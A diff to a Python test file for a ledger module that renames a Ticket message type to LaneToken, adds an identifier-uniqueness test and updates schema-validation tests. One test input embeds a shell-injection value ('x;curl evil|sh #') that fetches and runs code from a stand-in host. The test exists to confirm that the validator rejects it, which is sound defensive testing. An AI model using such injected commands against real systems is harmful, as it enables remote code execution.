@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 
 from mqops.errors import LakeError, LedgerBroken
 from mqops.ledger.core.identity import PlanIdentity
-from mqops.ledger.core.marker import Marker, Ticket, unpack
+from mqops.ledger.core.marker import LaneToken, Marker, unpack
 from mqops.ledger.file import LedgerFile
 
 PLAN = PlanIdentity(run="run 1", digest="ab" * 32)
@@ -67,6 +67,21 @@ def test_file_and_folder_are_private(tmp_path):
     add(file, marker(0))
     assert stat.S_IMODE(file.path.stat().st_mode) == 0o600
     assert stat.S_IMODE(file.folder.stat().st_mode) == 0o700
+
+
+def test_no_two_identifiers_are_the_same():
+    """A line with the identifier of another would not be recorded, a marker with that of another would end its lane."""
+    found = []
+    for run, digest in (("r1", "d1"), ("r1", "d2"), ("r2", "d1")):
+        plan = PlanIdentity(run=run, digest=digest)
+        found += [
+            plan.marker_id(lane, first, kind) for lane in (0, 1) for first in (0, 1) for kind in ("acted", "failed")
+        ]
+        found += [named(lane) for named in (plan.last_id, plan.lane_token_id) for lane in (0, 1)]
+        found += [plan.outcome_id(at, number) for at in ("now", "later") for number in (0, 1)]
+        found += [plan.issued_id(), plan.markers(), plan.resumed_id("now"), plan.resumed_id("later")]
+    assert len(found) == len(set(found))
+    assert {len(one) for one in found} == {24}
 
 
 def test_a_unit_of_work_is_recorded_once(tmp_path):
@@ -171,16 +186,16 @@ def test_a_marker_comes_back_from_its_message_as_it_was(rows, absent, run):
     assert Marker.unpack(original.pack()) == original
 
 
-def test_a_ticket_comes_back_from_its_message_as_it_was():
-    ticket = Ticket(run="r", plan="p", lane=7, next=400)
-    assert Ticket.unpack(ticket.pack()) == ticket
+def test_a_lane_token_comes_back_from_its_message_as_it_was():
+    lane_token = LaneToken(run="r", plan="p", lane=7, next=400)
+    assert LaneToken.unpack(lane_token.pack()) == lane_token
 
 
 GOOD = marker(0, plan=PlanIdentity(run="r", digest="p"))
-TICKET = Ticket(run="r", plan="p", lane=0, next=3)
+LANE_TOKEN = LaneToken(run="r", plan="p", lane=0, next=3)
 
 
-def changed(message: Marker | Ticket, **members: object) -> bytes:
+def changed(message: Marker | LaneToken, **members: object) -> bytes:
     return json.dumps({**json.loads(message.pack()), **members}).encode()
 
 
@@ -203,9 +218,9 @@ def changed(message: Marker | Ticket, **members: object) -> bytes:
         (changed(GOOD, run="x;curl evil|sh #"), "run: value_error"),
         (changed(GOOD, run=".."), "run: value_error"),
         (changed(GOOD, put={"user": "alice"}), "body: extra_forbidden"),  # who put it is not for the message to say
-        (changed(TICKET, next=1e999), "next: int_type"),
-        (changed(TICKET, lane="x"), "lane: int_type"),
-        (changed(TICKET, next=10**400), "next: less_than_equal"),
+        (changed(LANE_TOKEN, next=1e999), "next: int_type"),
+        (changed(LANE_TOKEN, lane="x"), "lane: int_type"),
+        (changed(LANE_TOKEN, next=10**400), "next: less_than_equal"),
     ],
 )
 def test_a_message_that_does_not_fit_the_schema_is_refused(body, text):
@@ -213,9 +228,9 @@ def test_a_message_that_does_not_fit_the_schema_is_refused(body, text):
         unpack(body)
 
 
-def test_a_marker_is_not_a_ticket():
-    assert (unpack(GOOD.pack()), unpack(TICKET.pack())) == (GOOD, TICKET)
+def test_a_marker_is_not_a_lane_token():
+    assert (unpack(GOOD.pack()), unpack(LANE_TOKEN.pack())) == (GOOD, LANE_TOKEN)
     with pytest.raises(LedgerBroken, match="is a ticket, not a marker"):
-        Marker.unpack(TICKET.pack())
+        Marker.unpack(LANE_TOKEN.pack())
     with pytest.raises(LedgerBroken, match="is a marker, not a ticket"):
-        Ticket.unpack(GOOD.pack())
+        LaneToken.unpack(GOOD.pack())
